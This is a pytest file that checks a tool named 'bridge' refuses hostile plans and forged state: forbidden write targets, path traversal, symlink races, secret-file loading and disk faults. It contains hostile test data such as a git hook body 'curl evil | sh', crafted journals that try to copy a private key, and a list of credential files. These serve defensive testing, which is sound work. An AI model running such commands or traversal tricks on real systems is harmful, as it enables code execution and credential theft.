"""Issue 11, the file rows: what a hostile plan or a forged store cannot make bridge do to
files. Targets bridge never writes (.git/, the store, the state dir), state read back from
the store that is not a path (run ids, journals, backups), folders swapped for symlinks
mid-run (a real rename-exchange race), private records and modes, LOAD of secrets, and a
full disk or read-only folder during a write or a journal entry."""

from __future__ import annotations

import ctypes
import errno
import json
import os
import socket
import stat
import threading
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

import bridge
from fakes import (
    check_store, dead_pid, insert_plan, make_plan, plan_state, run_bridge, run_json, snapshot,
    stored_results, temp_files,
)

ORIGINAL = b"original bytes\n"


def mode_of(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder outside the project holding things an attacker wants: a victim file, a
    private key, an empty folder."""
    p = tmp_path / "outside"
    p.mkdir()
    (p / "victim.txt").write_bytes(b"outside victim\n")
    (p / "id_ed25519").write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    (p / "id_ed25519").chmod(0o600)
    (p / "empty").mkdir()
    return p


def files_plan(project: Path, outputs: list[str], plan_id: str = "files", **fields) -> dict:
    steps = [{"id": n, "prompt": f"write {rel}", "file_output": rel, "max_retries": 0}
             for n, rel in enumerate(outputs, 1)]
    return make_plan(plan_id, steps, context={"objective": "write files", "project": str(project)}, **fields)


# --------------------------------------------------------------------------------------
# Point 2: targets bridge never writes, whatever project is trusted
# --------------------------------------------------------------------------------------

FORBIDDEN = [".git/hooks/pre-commit", "sub/.GIT/config", "store.db", "store.db-wal", "state/runs/x.txt"]


@pytest.mark.parametrize("rel", FORBIDDEN)
def test_validation_names_why_a_target_is_never_written(tmp_path, project, rel):
    """check_plan, --validate and --dry-run share forbidden_target_reason."""
    guard = bridge.Guard((project / "store.db",), project / "state")
    plan = files_plan(project, [rel])

    with pytest.raises(bridge.PlanInvalid) as info:
        bridge.check_plan(plan, guard)

    assert info.value.problems[0].startswith("$.steps[0].file_output")
    assert "never writes" in info.value.problems[0]
    plan_file = tmp_path / "plan.json"
    plan_file.write_text(json.dumps(plan))
    rc = bridge.main(["--db", str(project / "store.db"), "--state-dir", str(project / "state"),
                      "--validate", str(plan_file), "--json"], environ={})
    assert rc == 1


@pytest.mark.parametrize("rel", FORBIDDEN)
def test_the_write_path_refuses_them_too_even_when_validation_is_skipped(project, tmp_path, rel):
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "hooks" / "pre-commit").write_bytes(ORIGINAL)
    (project / "store.db").write_bytes(ORIGINAL)
    (project / "state").mkdir()
    before = snapshot(project)
    files = bridge.FileTransaction(project, tmp_path / "runs" / "r",
                                   guard=bridge.Guard((project / "store.db",), project / "state"))

    with pytest.raises(bridge.PathError, match="never writes"):
        files.write(rel, "#!/bin/sh\ncurl evil | sh\n")

    assert snapshot(project) == before
    assert files.changes == {}


def test_a_run_records_the_plan_failed_and_sends_nothing(capsys, tmp_path, project, fake_llm):
    """The store inside the project, a hook and the state dir: the plan is recorded failed
    with every reason, no request is sent, the store stays valid."""
    db = project / "store.db"
    bridge.Store.create(db)
    state = project / "state"
    (project / ".git" / "hooks").mkdir(parents=True)
    hook = project / ".git" / "hooks" / "pre-commit"
    hook.write_bytes(ORIGINAL)
    insert_plan(db, files_plan(project, [".git/hooks/pre-commit", "store.db", "state/evil.txt", "ok.txt"]))

    rc, out, err = run_bridge(capsys, db, fake_llm, state, "--dry-run", "--json")
    assert rc == 1, err
    assert len(json.loads(out)["plans"][0]["problems"]) == 3
    rc, result, err = run_json(capsys, db, fake_llm, state, require_output=True)

    assert rc == 1, err
    assert result["status"] == "failed"
    assert len(result["problems"]) == 3 and all("never writes" in p for p in result["problems"])
    assert fake_llm.chat_requests == []
    assert hook.read_bytes() == ORIGINAL
    assert not (project / "ok.txt").exists()
    assert stored_results(db)[0]["status"] == "failed"
    check_store(db)


# --------------------------------------------------------------------------------------
# Point 4: nothing read back from the store is a path
# --------------------------------------------------------------------------------------

def _utc_iso(seconds_ago: float) -> str:
    when = datetime.now(timezone.utc) - timedelta(seconds=seconds_ago)
    return when.replace(microsecond=0).isoformat().replace("+00:00", "Z")


def stale_state(run_id) -> dict:
    stamp = _utc_iso(bridge.STALE_AFTER_S + 600)
    return {"status": "in_progress", "run_id": run_id, "claimed_at": stamp, "heartbeat_at": stamp,
            "owner": {"host": socket.gethostname(), "pid": dead_pid()}, "finished_at": None, "error": None,
            "resumed_from": None}


def craft_run(folder: Path, project: Path, outside: Path) -> None:
    """A journal that, if trusted, deletes outside/victim.txt, removes outside/empty,
    overwrites outside files with attacker bytes and copies the private key into the
    project; a steps.jsonl claiming step 1 succeeded."""
    (folder / "backups").mkdir(parents=True, exist_ok=True)
    (folder / "backups" / "0000-evil").write_bytes(b"ssh-ed25519 ATTACKER\n")
    entries = [
        {"step": 2, "path": str(outside / "victim.txt"), "action": "created", "backup": "", "mode": None,
         "created_dirs": []},
        {"step": 2, "path": "../outside/victim.txt", "action": "modified",
         "backup": str(folder / "backups" / "0000-evil"), "mode": 0o644, "created_dirs": []},
        {"step": 2, "path": "a.txt", "action": "created", "backup": "", "mode": None,
         "created_dirs": [str(outside / "empty")]},
        {"step": 2, "path": "copied-key.txt", "action": "modified", "backup": str(outside / "id_ed25519"),
         "mode": 0o644, "created_dirs": []},
        {"step": 2, "path": "link/victim.txt", "action": "created", "backup": "", "mode": None,
         "created_dirs": []},
        {"step": 1, "path": "kept.txt", "action": "modified", "backup": str(outside / "id_ed25519"),
         "mode": 0o644, "created_dirs": []},
    ]
    (folder / "journal.jsonl").write_text("".join(json.dumps(e) + "\n" for e in entries))
    (folder / "steps.jsonl").write_text(json.dumps({"id": 1, "status": "succeeded", "output": "x",
                                                    "attempts": 1}) + "\n")


FORGED = ["absolute", "dotdot", "symlinked-run-folder", "crafted-journal-in-the-runs-folder"]


def own_run_info(folder: Path, db: Path, plan_id: str, project: Path) -> None:
    """The run.json bridge writes, naming plan_id (its content hash) and project: what a
    forger who can write the runs folder would add so that a take-over reads the rest."""
    from fakes import plan_row
    (folder / "run.json").write_text(json.dumps({
        "plan_id": plan_id, "run_id": folder.name, "project": str(project), "started_at": "x",
        "content_hash": plan_row(db, plan_id)["content_hash"]}))


@pytest.mark.parametrize("flag", ["--resume", "--rerun"])
@pytest.mark.parametrize("forgery", FORGED)
def test_forged_state_cannot_make_resume_or_rerun_touch_anything_outside(
        capsys, db, project, outside, fake_llm, state_dir, tmp_path, forgery, flag):
    """A forged metadata.bridge (in_progress, old heartbeat) whose run_id is a path, or
    names a folder holding a crafted journal: nothing outside changes, no file is copied
    into the project, the plan reaches a recorded end, and the refusals are recorded."""
    runs = state_dir / "runs"
    runs.mkdir(parents=True)
    evil = tmp_path / "evil" / "20260101T000000Z-0badc0de"
    craft_run(evil, project, outside)
    (project / "link").symlink_to(outside, target_is_directory=True)
    run_id = {"absolute": str(evil), "dotdot": f"../../evil/{evil.name}",
              "symlinked-run-folder": "20260101T000000Z-00000001",
              "crafted-journal-in-the-runs-folder": "20260101T000000Z-00000002"}[forgery]
    if forgery == "symlinked-run-folder":
        (runs / run_id).symlink_to(evil, target_is_directory=True)
    if forgery == "crafted-journal-in-the-runs-folder":
        craft_run(runs / run_id, project, outside)
    insert_plan(db, make_plan("forged", [
        {"id": 1, "prompt": "one", "file_output": "kept.txt"},
        {"id": 2, "prompt": "two", "file_output": "a.txt"}],
        context={"objective": "forged", "project": str(project)}, rollback_strategy="revert_files"),
        metadata={"bridge": stale_state(run_id)})
    # with the run.json a take-over needs (issue 20)
    if forgery == "crafted-journal-in-the-runs-folder":
        own_run_info(runs / run_id, db, "forged", project)
    fake_llm.default_reply = "plain text"
    before_outside, before_evil = snapshot(outside), snapshot(evil)

    rc, result, err = run_json(capsys, db, fake_llm, state_dir, "--plan", "forged", flag, require_output=True)

    assert rc in (0, 1), err
    assert "Traceback" not in err
    assert snapshot(outside) == before_outside
    assert snapshot(evil) == before_evil
    assert not (project / "copied-key.txt").exists()
    assert not (project / "kept.txt").exists() or b"PRIVATE" not in (project / "kept.txt").read_bytes()
    assert plan_state(db, "forged")["status"] in ("completed", "failed")
    assert stored_results(db)[-1]["plan_id"] == "forged"
    assert result["refused"], result
    if forgery == "crafted-journal-in-the-runs-folder":
        # refused: the absolute path, '..', a folder outside, two backups outside the run's folder;
        # link/victim.txt is a plan path, but restoring it would go through a symlink: not done
        assert len(result["refused"]) == 5, result["refused"]
        assert "link/victim.txt" in result["error"] and "symlink" in result["error"]
    else:
        assert "resumed_from" not in result
    check_store(db)


@pytest.mark.parametrize("flag", ["--resume", "--rerun"])
def test_run_records_that_are_symlinks_are_not_read(capsys, db, project, outside, fake_llm, state_dir,
                                                     tmp_path, flag):
    """A run folder of the right name whose journal.jsonl and steps.jsonl are symlinks to
    a crafted journal elsewhere: neither is read, nothing outside changes."""
    evil = tmp_path / "evil"
    craft_run(evil, project, outside)
    run_id = "20260101T000000Z-00000003"
    run = state_dir / "runs" / run_id
    run.mkdir(parents=True)
    (run / "journal.jsonl").symlink_to(evil / "journal.jsonl")
    (run / "steps.jsonl").symlink_to(evil / "steps.jsonl")
    insert_plan(db, files_plan(project, ["kept.txt", "a.txt"], "linked", rollback_strategy="revert_files"),
                metadata={"bridge": stale_state(run_id)})
    own_run_info(run, db, "linked", project)
    fake_llm.default_reply = "plain text"
    before = snapshot(outside)

    rc, result, err = run_json(capsys, db, fake_llm, state_dir, "--plan", "linked", flag, require_output=True)

    assert rc == 0, err
    assert snapshot(outside) == before
    assert [s["resumed"] for s in result["steps"]] == [False, False]        # steps.jsonl not believed
    assert any("journal of" in r for r in result["refused"])
    assert (project / "kept.txt").read_text() == "plain text"


def test_bridges_own_json_files_are_read_as_regular_files_only(tmp_path, outside):
    """run.json, reads.json, undone.json (read_json_file): a symlink is not followed, a
    FIFO is not waited on, a file past OWN_FILE_MAX_BYTES or nesting past MAX_JSON_DEPTH is
    not parsed; the trust and approvals files (follow_symlinks) may be links."""
    (outside / "run.json").write_text('{"plan_id": "theirs"}')
    (tmp_path / "link.json").symlink_to(outside / "run.json")
    os.mkfifo(tmp_path / "fifo.json")
    (tmp_path / "deep.json").write_text("[" * 100 + "]" * 100)
    with pytest.raises(OSError) as refused:
        bridge.read_json_file(tmp_path / "link.json")
    assert refused.value.errno == errno.ELOOP
    with pytest.raises(OSError) as refused:
        bridge.read_json_file(tmp_path / "fifo.json")      # at once, not a hang
    assert refused.value.errno == errno.EINVAL
    with pytest.raises(ValueError, match="levels"):
        bridge.read_json_file(tmp_path / "deep.json")
    assert bridge.read_json_file(tmp_path / "link.json", or_none=True) is None
    assert bridge.read_json_file(tmp_path / "link.json", follow_symlinks=True) == {"plan_id": "theirs"}


def test_a_stats_file_that_is_a_fifo_or_a_symlink_is_an_error_not_a_hang(
        capsys, db, fake_llm, state_dir, outside):
    state_dir.mkdir(parents=True, exist_ok=True)
    os.mkfifo(state_dir / bridge.STATS_FILE)
    rc, out, err = run_bridge(capsys, db, fake_llm, state_dir, "--stats")
    assert rc == 2 and "cannot read" in err and "internal error" not in err
    (state_dir / bridge.STATS_FILE).unlink()
    (outside / "stats.jsonl").write_text("")
    (state_dir / bridge.STATS_FILE).symlink_to(outside / "stats.jsonl")
    rc, out, err = run_bridge(capsys, db, fake_llm, state_dir, "--stats")
    assert rc == 2 and "cannot read" in err


def test_a_journal_path_no_file_name_can_hold_is_refused(project, tmp_path):
    """A lone surrogate (valid JSON "\\ud800") in a journalled path: refused, not a crash."""
    runs = tmp_path / "runs"
    old = runs / "20260101T000000Z-00000004"
    old.mkdir(parents=True)
    (old / "journal.jsonl").write_text(json.dumps({"step": 1, "path": "a\ud800.txt", "action": "created",
                                                   "backup": "", "mode": None, "created_dirs": []}) + "\n")
    files = bridge.FileTransaction(project, runs / bridge.new_run_id())

    assert files.recover(old, set()) == []
    assert "lone surrogate" in files.refused[0]


def test_journalled_folders_that_are_no_list_are_refused_not_a_crash(project, tmp_path):
    """created_dirs of 5 (valid JSON, not a list): a refused entry (was a TypeError, exit 70)."""
    runs = tmp_path / "runs"
    old = runs / "20260101T000000Z-00000005"
    old.mkdir(parents=True)
    (old / "journal.jsonl").write_text(json.dumps({"step": 1, "path": "a.txt", "action": "created",
                                                   "backup": "", "mode": None, "created_dirs": 5}) + "\n")
    files = bridge.FileTransaction(project, runs / bridge.new_run_id())

    assert files.recover(old, set()) == []
    assert "created_dirs 5 is not a list" in files.refused[0]


def test_run_folder_accepts_only_run_ids_bridge_makes(tmp_path):
    runs = tmp_path / "runs"
    good = bridge.new_run_id()
    assert bridge.run_folder(runs, good) == runs / good
    for bad in ["../..", "/etc", "20260101T000000Z-0badc0de/..", "20260101T000000Z-0BADC0DE",
                "20260101T000000Z-0badc0de\n", 42, None, ["x"]]:
        with pytest.raises(bridge.PathError, match="is not a bridge run id"):
            bridge.run_folder(runs, bad)


def test_show_prints_the_run_log_bridge_makes_not_the_stored_one(capsys, db, project, fake_llm, state_dir):
    insert_plan(db, make_plan("shown"))
    fake_llm.default_reply = "hi"
    run_bridge(capsys, db, fake_llm, state_dir)
    import sqlite3
    conn = sqlite3.connect(db)
    with conn:
        for rowid, content in conn.execute("SELECT rowid, content FROM memories").fetchall():
            if '"bridge_result"' in content:      # the run id (also inside run_log) forged
                run_id = json.loads(content[content.index("{"):])["run_id"]
                conn.execute("UPDATE memories SET content = ? WHERE rowid = ?",
                             (content.replace(run_id, "../../root/.ssh"), rowid))
    conn.close()

    rc, out, err = run_bridge(capsys, db, fake_llm, state_dir, "--show", "shown", "--json")

    assert rc == 0, err
    assert json.loads(out)["run_log"] is None


# --------------------------------------------------------------------------------------
# Point 5: no way out through races
# --------------------------------------------------------------------------------------

RENAME_EXCHANGE = 2
AT_FDCWD = -100


def _renameat2():
    """libc's renameat2, or None (with the reason) when this system has none."""
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        func = libc.renameat2
    except (OSError, AttributeError) as exc:
        return None, f"no renameat2 in libc ({exc})"
    func.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
    return func, None


def exchange(func, a: Path, b: Path) -> None:
    if func(AT_FDCWD, bytes(a), AT_FDCWD, bytes(b), RENAME_EXCHANGE) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


@pytest.fixture
def renameat2(tmp_path):
    func, why = _renameat2()
    if func is None:
        pytest.skip(why)
    a, b = tmp_path / "probe-a", tmp_path / "probe-b"
    a.mkdir()
    b.symlink_to(tmp_path)
    try:
        exchange(func, a, b)
    except OSError as exc:
        pytest.skip(f"renameat2(RENAME_EXCHANGE) does not work here: {exc}")
    b.rmdir()
    a.unlink()
    return func


RACE_WRITES = 150


def test_folder_swapped_for_a_symlink_during_a_run_lands_nothing_outside(
        capsys, db, project, outside, fake_llm, state_dir, renameat2):
    """A thread exchanges project/d (a real folder) with project/swap (a symlink to an
    outside folder) in a loop while a real run writes RACE_WRITES files into d: nothing
    lands outside, no temp file outside, no crash, a documented exit code, a recorded end."""
    (project / "d").mkdir()
    (project / "swap").symlink_to(outside, target_is_directory=True)
    outputs = ["first.txt"] + [f"d/sub/f{n:03d}.txt" for n in range(RACE_WRITES)] + ["d/last.txt"]
    insert_plan(db, files_plan(project, outputs, "race"))
    fake_llm.default_reply = "written by the race test"
    before = snapshot(outside)
    done, swaps = threading.Event(), [0]

    def swapper() -> None:
        while not (project / "first.txt").exists() and not done.is_set():
            done.wait(0.001)            # the plan is validated while d is still a folder
        while not done.is_set():
            exchange(renameat2, project / "d", project / "swap")
            swaps[0] += 1
        if (project / "d").is_symlink():
            exchange(renameat2, project / "d", project / "swap")

    thread = threading.Thread(target=swapper)
    started = time.monotonic()
    thread.start()
    try:
        rc, result, err = run_json(capsys, db, fake_llm, state_dir, "--plan", "race", require_output=True)
    finally:
        done.set()
        thread.join()
    elapsed = time.monotonic() - started

    assert rc in (0, 1), err
    assert "Traceback" not in err and "internal error" not in err
    assert snapshot(outside) == before
    assert temp_files(outside) == [] and temp_files(project) == []
    assert plan_state(db, "race")["status"] in ("completed", "failed")
    assert stored_results(db)[-1]["status"] == result["status"]
    statuses = [s["status"] for s in result["steps"]]
    refused = [s for s in result["steps"] if s["status"] == "failed"]
    odd = [s["error"] for s in refused if "symlink" not in s["error"] and "not a folder" not in s["error"]]
    assert odd == [], result["error"]
    written = [p for p in project.rglob("*.txt")]
    assert all(p.read_text() == "written by the race test" for p in written)
    assert swaps[0] > 0
    with capsys.disabled():
        print(f"\n[race] {len(outputs)} writes, {statuses.count('succeeded')} succeeded, "
              f"{len(refused)} refused, {swaps[0]} folder exchanges, {elapsed:.2f} s")


RACE_CHECKS = 1500


def test_checking_a_plan_while_a_folder_is_swapped_never_raises(project, outside, renameat2):
    """realpath and resolve raced by a rename-exchange (EINVAL from readlink, the issue's
    exit 70 in resolve_inside) give a plan problem or a valid plan, never an OSError."""
    (project / "d").mkdir()
    (project / "d" / "notes.txt").write_text("notes\n")
    (project / "swap").symlink_to(outside, target_is_directory=True)
    plan = make_plan("raced", [{"id": 1, "prompt": "p", "file_output": "d/sub/out.txt"}],
                     context={"objective": "o", "project": str(project), "files_context": {"d/notes.txt": "LOAD"}})
    done, outcomes = threading.Event(), {"valid": 0, "invalid": 0}

    def swapper() -> None:
        while not done.is_set():
            exchange(renameat2, project / "d", project / "swap")

    thread = threading.Thread(target=swapper)
    thread.start()
    try:
        for _ in range(RACE_CHECKS):
            try:
                bridge.check_plan(plan)
                outcomes["valid"] += 1
            except bridge.PlanInvalid:
                outcomes["invalid"] += 1
    finally:
        done.set()
        thread.join()

    assert sum(outcomes.values()) == RACE_CHECKS


def test_rollback_through_a_swapped_folder_touches_nothing_outside(project, outside, tmp_path, renameat2):
    (project / "d").mkdir()
    (project / "d" / "victim.txt").write_bytes(ORIGINAL)
    files = bridge.FileTransaction(project, tmp_path / "runs" / "r")
    files.write("d/victim.txt", "changed")
    files.write("d/made/new.txt", "created")
    (outside / "made").mkdir()
    (outside / "made" / "new.txt").write_bytes(b"outside file of the same name\n")
    (project / "swap").symlink_to(outside, target_is_directory=True)
    exchange(renameat2, project / "d", project / "swap")     # d is now the symlink
    before = snapshot(outside)

    with pytest.raises(bridge.RollbackError) as info:
        files.rollback()

    assert snapshot(outside) == before
    assert "d/victim.txt" in str(info.value) and "d/made/new.txt" in str(info.value)
    assert (project / "swap" / "victim.txt").read_text() == "changed"   # the real folder, left as it is


def test_a_file_replaced_by_a_symlink_is_not_written_through(project, outside, tmp_path):
    files = bridge.FileTransaction(project, tmp_path / "runs" / "r")
    files.write("note.txt", "mine")
    (project / "note.txt").unlink()
    (project / "note.txt").symlink_to(outside / "victim.txt")
    before = snapshot(outside)

    with pytest.raises(bridge.PathError, match="symlink"):
        files.write("note.txt", "pwned")
    files.rollback()                # the symlink (in the project) goes, not what it points to

    assert snapshot(outside) == before
    assert not (project / "note.txt").is_symlink()


def test_a_load_file_is_read_through_real_folders_only(project, outside):
    """A folder swapped for a symlink after the plan was checked cannot make a step's
    prompt carry a file from outside."""
    (project / "docs").mkdir()
    (project / "docs" / "victim.txt").write_text("project notes\n")
    plan = bridge.check_plan(make_plan("load", context={"objective": "o", "project": str(project),
                                                        "files_context": {"docs/victim.txt": "LOAD"}}))
    (project / "docs").rename(project / "docs-moved")
    (project / "docs").symlink_to(outside, target_is_directory=True)

    messages = bridge.build_messages(plan, plan.steps[1], {})

    assert "outside victim" not in messages[1]["content"]
    assert "(not included: path 'docs/victim.txt': 'docs' is a symlink" in messages[1]["content"]
    (project / "docs").unlink()
    (project / "docs").symlink_to(project / "docs-moved", target_is_directory=True)   # inside, still refused
    with pytest.raises(bridge.PlanInvalid, match="'docs' is a symlink"):
        bridge.check_plan(make_plan("load", context={"objective": "o", "project": str(project),
                                                     "files_context": {"docs/victim.txt": "LOAD"}}))


def test_a_fifo_as_load_file_or_file_output_is_refused_without_waiting(project, tmp_path):
    """Opening a FIFO to read it (a LOAD, or the original before a write) would wait for a
    writer forever."""
    os.mkfifo(project / "pipe")
    errors: list[str] = []

    def attempts() -> None:
        for plan in (make_plan("fifo", context={"objective": "o", "project": str(project),
                                                "files_context": {"pipe": "LOAD"}}),
                     make_plan("fifo", [{"id": 1, "prompt": "p", "file_output": "pipe"}],
                               context={"objective": "o", "project": str(project)})):
            try:
                bridge.check_plan(plan)
            except bridge.PlanInvalid as exc:
                errors.append(str(exc))
        try:
            bridge.FileTransaction(project, tmp_path / "runs" / "r").write("pipe", "data")
        except bridge.PathError as exc:
            errors.append(str(exc))

    worker = threading.Thread(target=attempts, daemon=True)     # a blocked open() cannot be cancelled
    worker.start()
    worker.join(timeout=10)

    assert not worker.is_alive(), "bridge is waiting for a writer on the FIFO"
    assert len(errors) == 3 and all("not a regular file" in e for e in errors), errors
    assert stat.S_ISFIFO(os.lstat(project / "pipe").st_mode)


# --------------------------------------------------------------------------------------
# Point 6: secrets stay private
# --------------------------------------------------------------------------------------

@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def test_journals_backups_and_run_logs_are_0600_in_0700_folders(
        capsys, db, project, fake_llm, state_dir, umask_022):
    (project / "README.md").write_bytes(ORIGINAL)
    insert_plan(db, files_plan(project, ["README.md", "new/made.txt"]))
    fake_llm.default_reply = "text"

    rc, result, err = run_json(capsys, db, fake_llm, state_dir, require_output=True)

    assert rc == 0, err
    run = state_dir / "runs" / result["run_id"]
    assert mode_of(state_dir / "runs") == 0o700 and mode_of(run) == 0o700
    for name in ("journal.jsonl", "steps.jsonl", "step-1.jsonl", "step-2.jsonl"):
        assert mode_of(run / name) == 0o600, name
    assert mode_of(project / "new") == 0o755 and mode_of(project / "new" / "made.txt") == 0o644


def test_a_0600_env_is_backed_up_0600_and_gets_its_mode_back(project, tmp_path, umask_022):
    env = project / ".env"
    env.write_bytes(b"API_KEY=secret\n")
    env.chmod(0o600)
    files = bridge.FileTransaction(project, tmp_path / "runs" / "r")

    change = files.write(".env", "API_KEY=other\n")

    assert mode_of(change.backup) == 0o600 and mode_of(change.backup.parent) == 0o700
    assert mode_of(env) == 0o600
    files.rollback()
    assert env.read_bytes() == b"API_KEY=secret\n" and mode_of(env) == 0o600


def test_umask_is_never_changed_during_a_run(capsys, db, project, fake_llm, state_dir, monkeypatch, umask_022):
    """A new file gets 0o666 less the umask with no umask(0)/umask(old) flip."""
    if hasattr(bridge, "_new_file_mode"):
        bridge._new_file_mode.cache_clear()
    calls = []
    monkeypatch.setattr(os, "umask", lambda mask: calls.append(mask) or 0o022)
    insert_plan(db, files_plan(project, ["made.txt"]))
    fake_llm.default_reply = "text"

    rc, result, err = run_json(capsys, db, fake_llm, state_dir, require_output=True)

    assert rc == 0, err
    assert calls == []
    assert mode_of(project / "made.txt") == 0o644


SECRETS = [".ssh/id_ed25519", "keys/id_rsa", "id_ecdsa", "deploy/server.pem", "tls.key", ".gnupg/pubring.kbx",
           ".env", "app/.env.local", ".aws/credentials"]


@pytest.mark.parametrize("rel", SECRETS)
def test_load_refuses_private_keys_and_secret_stores(capsys, db, project, fake_llm, state_dir, rel):
    path = project / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("-----BEGIN PRIVATE KEY-----\nS3CR3T-MATERIAL\n")
    insert_plan(db, make_plan("load", context={"objective": "o", "project": str(project),
                                               "files_context": {rel: "LOAD"}}))

    rc, result, err = run_json(capsys, db, fake_llm, state_dir, require_output=True)

    assert rc == 1, err
    assert result["status"] == "failed"
    assert "does not send it to a model" in result["problems"][0]
    assert fake_llm.chat_requests == []
    assert "S3CR3T" not in json.dumps(stored_results(db))


@pytest.mark.parametrize("rel", ["id_ed25519.pub", ".env.example", "identity.py", "keys.md"])
def test_load_still_takes_files_that_only_look_alike(project, rel):
    (project / rel).write_text("public\n")

    plan = bridge.check_plan(make_plan("load", context={"objective": "o", "project": str(project),
                                                        "files_context": {rel: "LOAD"}}))

    assert plan.files_context == {rel: "LOAD"}


# --------------------------------------------------------------------------------------
# Point 8: a full disk or read-only folder during a write or a journal entry
# --------------------------------------------------------------------------------------

def _fd_path(fd: int) -> str:
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return ""


@pytest.fixture
def disk_faults(monkeypatch):
    """Make os.write (by the file it writes) and os.open (by the name it opens) fail with
    ENOSPC / EROFS, as a full disk or a read-only mount would; bridge runs in-process.
    Needed because the tests may run as root, where chmod does not stop a write."""
    rules: list[tuple[str, str, int]] = []       # (call, needle in the path, errno)
    real_write, real_open = os.write, os.open

    def write(fd, data):
        path = _fd_path(fd)
        for call, needle, code in rules:
            if call == "write" and needle in path:
                raise OSError(code, os.strerror(code))
        return real_write(fd, data)

    def open_(path, flags, mode=0o777, *, dir_fd=None):
        for call, needle, code in rules:
            shown = f"{_fd_path(dir_fd)}/{path}" if dir_fd is not None else str(path)
            if call == "open" and needle in shown and flags & (os.O_WRONLY | os.O_RDWR):
                raise OSError(code, os.strerror(code), str(path))
        return real_open(path, flags, mode, dir_fd=dir_fd)

    if not os.path.exists("/proc/self/fd"):
        pytest.skip("no /proc/self/fd to tell which file a write goes to")
    monkeypatch.setattr(os, "write", write)
    monkeypatch.setattr(os, "open", open_)
    return rules


@pytest.mark.parametrize("call, where, code", [
    ("write", "project/", errno.ENOSPC),          # the temp file of the write
    ("open", "project/", errno.EROFS),            # a read-only project folder
    ("write", "backups/", errno.ENOSPC),          # the backup of the original
    ("open", "journal.jsonl", errno.EROFS),       # the file journal entry
    ("open", "steps.jsonl", errno.EROFS),         # the run's step checkpoint
    ("open", "step-1.jsonl", errno.ENOSPC),       # a transcript
], ids=["write-enospc", "project-erofs", "backup-enospc", "journal-erofs", "checkpoint-erofs", "runlog-enospc"])
def test_full_disk_or_read_only_folder_fails_the_plan_with_its_result(
        capsys, db, project, fake_llm, state_dir, disk_faults, call, where, code):
    (project / "README.md").write_bytes(ORIGINAL)
    insert_plan(db, files_plan(project, ["README.md", "new/made.txt"], rollback_strategy="revert_files"))
    fake_llm.default_reply = "replaced"
    disk_faults.append((call, where, code))

    rc, result, err = run_json(capsys, db, fake_llm, state_dir, require_output=True)

    assert rc == 1, err
    assert "Traceback" not in err and "internal error" not in err
    assert result["status"] == "failed"
    assert os.strerror(code) in json.dumps(result)
    assert (project / "README.md").read_bytes() == ORIGINAL
    assert not (project / "new").exists()
    assert temp_files(project) == []
    assert plan_state(db, "files")["status"] == "failed"
    assert stored_results(db)[-1]["status"] == "failed"
    check_store(db)


def test_a_failed_write_keeps_the_file_and_its_backup_until_the_result_is_stored(
        capsys, db, project, fake_llm, state_dir, monkeypatch):
    """The store refuses the result: the written file's backup is still there for the
    takeover (never a modified file without its backup)."""
    (project / "README.md").write_bytes(ORIGINAL)
    insert_plan(db, files_plan(project, ["README.md"]))
    fake_llm.default_reply = "replaced"

    def refuse(self, *args, **kwargs):
        raise bridge.StoreError("database is locked")
    monkeypatch.setattr(bridge.Store, "finish", refuse)

    rc, out, err = run_bridge(capsys, db, fake_llm, state_dir)

    assert rc == 2, err
    assert (project / "README.md").read_bytes() == b"replaced"
    backups = list((state_dir / "runs").glob("*/backups/*"))
    assert [b.read_bytes() for b in backups] == [ORIGINAL]


@pytest.mark.skipif(os.geteuid() == 0, reason="as root chmod does not stop a write (see disk_faults)")
def test_a_read_only_folder_by_chmod_fails_the_step(capsys, db, project, fake_llm, state_dir):
    (project / "ro").mkdir()
    (project / "ro" / "file.txt").write_bytes(ORIGINAL)
    (project / "ro").chmod(0o555)
    insert_plan(db, files_plan(project, ["ro/file.txt"]))
    fake_llm.default_reply = "replaced"
    try:
        rc, result, err = run_json(capsys, db, fake_llm, state_dir, require_output=True)
    finally:
        (project / "ro").chmod(0o755)

    assert rc == 1, err
    assert "Permission denied" in result["steps"][0]["error"]
    assert (project / "ro" / "file.txt").read_bytes() == ORIGINAL
